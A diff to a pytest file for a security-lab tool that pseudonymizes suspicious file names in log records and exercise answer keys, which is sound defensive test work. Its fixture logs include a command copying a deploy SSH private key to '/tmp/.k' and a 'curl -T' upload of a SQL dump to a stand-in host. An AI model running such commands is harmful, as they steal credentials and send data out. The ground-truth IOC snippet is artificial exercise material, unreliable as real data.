@@ -25,6 +25,13 @@ from pytest_soclab.pseudonymize.artifacts import ArtifactNames, path_names
         ("/dev/shm/.php-session", ["php-session"]),
         (r"C:\Users\alice\Downloads\winx64_payload.exe", ["winx64_payload"]),
         (r"C:\Windows\Temp\debug648.bin", ["debug648"]),
+        # one-letter hidden files are learned with their dot, replaced only where a word starts with it
+        ("/tmp/.k", [".k"]),
+        ("/tmp/.s.sql.gz", [".s"]),
+        ("/home/bob/.x/a.tgz", [".x"]),
+        # a made-up name with a build directory's random suffix names the package without it
+        ("/tmp/pip-install-u5x0c1d3/requests-toolbelt-ng_8c1f", ["requests-toolbelt-ng", "requests-toolbelt-ng_8c1f"]),
+        ("/tmp/report_2024.pdf", ["report_2024"]),
         # what the system, a package or a program ships, or a plain word
         ("/usr/bin/python3.11", []),
         ("/usr/lib/x86_64-linux-gnu/libc.so.6", []),
@@ -99,3 +106,28 @@ def test_no_made_up_name_survives_a_variant(name: str, where: str, ext: str) -> 
     # the same name, the same pseudonym, wherever it stands
     again = v.document(_doc(path))
     assert again["file"]["path"] == json.loads(out)["file"]["path"]
+
+
+def test_a_one_letter_hidden_file_is_re_keyed_where_it_is_a_file_only() -> None:
+    """`/tmp/.k` and `/tmp/.s.sql.gz` change in every field and in the task; `curl -k`, `a.k` and the
+    letter in prose do not (learning `k` as a word would rewrite them all)."""
+    docs = [{"@timestamp": "2024-05-14T02:10:09Z", "file": {"path": "/tmp/.k", "name": ".k"},
+             "process": {"command_line": "cp /var/www/.deploy/id_ed25519 /tmp/.k; ls .k",
+                         "args": ["ssh", "-i", "/tmp/.k"]}},
+            {"@timestamp": "2024-05-14T02:11:09Z", "file": {"path": "/tmp/.s.sql"},
+             "process": {"command_line": "gzip /tmp/.s.sql; curl -k -T /tmp/.s.sql.gz http://x/; echo a.k k"}}]  # fmt: skip
+    v = Variant(1)
+    v.learn(docs)
+    a, b = (v.document(d) for d in docs)
+    key = a["file"]["name"]
+    assert key != ".k" and key.startswith(".") and a["file"]["path"] == "/tmp/" + key
+    assert a["process"]["args"][-1] == "/tmp/" + key and a["process"]["command_line"].endswith(f"/tmp/{key}; ls {key}")
+    sql = b["file"]["path"].removeprefix("/tmp/")
+    assert sql.endswith(".sql") and sql != ".s.sql"
+    assert b["process"]["command_line"] == f"gzip /tmp/{sql}; curl -k -T /tmp/{sql}.gz http://x/; echo a.k k"
+    task = {"ground_truth": {"iocs": ["/tmp/.k", "/tmp/.s.sql.gz"]}}
+    assert v.task(task)["ground_truth"]["iocs"] == ["/tmp/" + key, f"/tmp/{sql}.gz"]
+    # another process, with what this one learned as keyed digests only, re-keys the task alike
+    other = Variant(1)
+    other.load_known(v.export_known())
+    assert other.task(task) == v.task(task)
